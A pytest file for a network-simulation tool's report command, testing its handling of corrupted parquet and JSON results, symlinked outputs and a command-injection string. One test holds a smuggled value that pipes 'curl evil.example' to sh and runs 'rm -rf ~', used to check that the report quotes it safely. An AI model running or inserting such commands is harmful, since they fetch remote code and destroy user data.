# SPDX-License-Identifier: Apache-2.0
"""Results that are well-formed and contradict themselves: a line that names the file."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import msgspec
import polars
import pytest

from tailrace.cli.main import main
from tailrace.papers.document import Cell, Curve
from tests.papers.blank import blank

SMALL = (
    *("--target", "virtual", "--topology", "leaf-spine:leaves=2,spines=2,hosts=1"),
    *("--workload", "permutation:size=1KiB"),
)
NOBODY = polars.lit("nobody").alias("dst")
Change = Callable[[polars.DataFrame], polars.DataFrame]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with every kind of file."""
    out = tmp_path_factory.mktemp("run") / "out"
    words = ["run", "--scheme", "ecmp", *SMALL, "--sample", "1us", "--follow", "1", "--gaps"]
    assert main([*words, "--out", str(out)]) == 0
    return out


def error_about(folder: Path, capsys: pytest.CaptureFixture[str], file: Path) -> str:
    """The error about a file, which is the only line of the report's standard error."""
    capsys.readouterr()
    assert main(["report", str(folder)]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    begin = f"tailrace: {file}: "
    assert line.startswith(begin)
    return line.removeprefix(begin)


def changed(run: Path, folder: Path, name: str, change: Change) -> Path:
    """The file of a copy of the run, changed and without a seal."""
    shutil.copytree(run, folder)
    change(polars.read_parquet(folder / name)).write_parquet(folder / name)
    return folder / name


@pytest.mark.parametrize(
    ("name", "change", "problem"),
    [
        ("flows.parquet", lambda table: table.with_columns(bytes=0 * polars.col("bytes")), "bytes: expected at least 1"),
        ("flows.parquet", lambda table: table.with_columns(bytes=-polars.col("bytes")), "bytes: expected at least 1"),
        ("flows.parquet", lambda table: table.drop("fct_ns"), "column 'fct_ns' is missing"),
        ("queues.parquet", lambda table: table.drop("peer"), "column 'peer' is missing"),
        ("queues.parquet", lambda table: table.with_columns(time_ns=_gaps("time_ns")), "column 'time_ns' has missing values"),
        ("paths.parquet", lambda table: table.drop("flow"), "column 'flow' is missing"),
        ("paths.parquet", lambda table: table.with_columns(psn=_gaps("psn")), "column 'psn' has missing values"),
        ("gaps.parquet", lambda table: table.drop("count"), "column 'count' is missing"),
    ],
)  # fmt: skip
def test_tables(
    name: str, change: Change, problem: str, run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = changed(run, tmp_path / "out", name, change)
    assert problem in error_about(tmp_path / "out", capsys, file)


def _gaps(name: str) -> polars.Expr:
    return polars.when(polars.int_range(polars.len()) > 0).then(polars.col(name))


def test_tables_that_contradict_each_other(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A flow that was followed and is not there; a host that is not there leaves out the network's figures."""
    changed(run, tmp_path / "one", "flows.parquet", lambda table: table.clear())
    assert (
        error_about(tmp_path / "one", capsys, tmp_path / "one" / "paths.parquet")
        == "flow 1 is not in flows.parquet"
    )
    changed(run, tmp_path / "two", "flows.parquet", lambda table: table.with_columns(NOBODY))
    assert main(["report", str(tmp_path / "two")]) == 0
    assert "which had a host nobody" in (tmp_path / "two" / "report.html").read_text()


def test_a_sweep_without_its_axis(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "out"
    assert main(["sweep", "--set", "scheme=ecmp", *SMALL, "--out", str(out)]) == 0
    file = out / "results.json"
    document = json.loads(file.read_text())
    document["runs"][0]["settings"] = {}
    file.write_text(json.dumps(document))
    assert "has no value of scheme" in error_about(out, capsys, file)


CELL = Cell("", "ecmp", {"fct_mean": 1.0})
GRID = {"axes": {"a": ["1"], "b": ["1"]}, "chart": "heatmap"}
CLAIM = dict.fromkeys(("text", "case", "expect", "paper", "shown", "verdict"), "")


@pytest.mark.parametrize(
    ("changes", "problem"),
    [
        ({"metrics": ["nope"]}, "metric 'nope' is not known"),
        ({"chart": "heatmap"}, "axes: expected 2 of a heat map, found 0"),
        ({"claims": [{**CLAIM, "ours": None, "kind": "hope"}]}, "claims: kind 'hope'"),
        ({"cells": [{"case": "", "label": "", "metrics": {}, "ratios": {"fct_mean": []}}]}, "of length >= 1"),
        ({"cases": {str(number): "" for number in range(51)}, **GRID}, "cases, drawn and curves:"),
        ({"axes": {"a": ["1"] * 150, "b": ["1"] * 150}, "chart": "heatmap"}, "expected at most 2000 marks"),
        ({"cells": [{"case": "", "label": "x" * 201, "metrics": {}}]}, "of length <= 200 - at"),
        ({"metrics": ["fct_mean"] * 51}, "of length <= 50 - at `$.metrics`"),
        # nobody looks for this one: the net below
        (
            {"chart": "sizes", "curves": [{"panel": "", "label": "?", "x": [1], "y": [1]}]},
            "cannot be shown: ",
        ),
    ],
)
def test_documents(
    changes: dict[str, object], problem: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    whole = blank(metrics=("fct_mean",), cells=(CELL,), curves=(Curve("", "ecmp", (1.0,), (1.0,)),))
    file = tmp_path / "result.json"
    file.write_text(json.dumps({**msgspec.to_builtins(whole), **changes}))
    assert problem in error_about(tmp_path, capsys, file)


def test_a_command_of_a_stranger(run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Whoever copies the command from a page runs that command, and nothing after it."""
    evil = "--scheme ecmp; curl evil.example | sh #\n rm -rf ~"
    shutil.copytree(run, tmp_path / "run")
    file = tmp_path / "run" / "summary.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {"words": evil}))
    whole = blank(metrics=("fct_mean",), cells=(CELL,), command=f"tailrace paper x {evil}")
    (tmp_path / "result.json").write_bytes(msgspec.json.encode(whole))
    assert main(["report", str(tmp_path)]) == 0
    page = (tmp_path / "report.html").read_text()
    assert "tailrace run" not in page
    assert "<code>tailrace paper x --scheme 'ecmp;' curl evil.example '|' sh" in page
    assert capsys.readouterr().err == ""


def test_a_report_goes_through_no_link(run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Who made the folder would choose which file of its reader is overwritten; one that is named may be a link."""
    shutil.copytree(run, tmp_path / "run")
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "run" / "report.html").symlink_to(tmp_path / "mine")
    page = tmp_path / "run" / "report.html"
    assert main(["report", str(tmp_path / "run")]) == 0
    assert not page.is_symlink()
    assert (tmp_path / "mine").read_text() == "mine"
    page.unlink()
    page.symlink_to(tmp_path / "mine")
    assert main(["report", str(tmp_path / "run"), "--out", str(tmp_path / "run" / "report.html")]) == 0
    assert (tmp_path / "mine").read_text().startswith("<!DOCTYPE html>")


def test_counts_that_are_not_there(run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What a summary does not tell is not shown."""
    shutil.copytree(run, tmp_path / "run")
    file = tmp_path / "run" / "summary.json"
    less = {"pfc": {}, "rlb": {"x": 1}, "hf2t": {"x": 1}, "flowlets": {"x": 1}}
    file.write_text(json.dumps(json.loads(file.read_text()) | less))
    assert main(["report", str(tmp_path / "run")]) == 0
    assert capsys.readouterr().err == ""
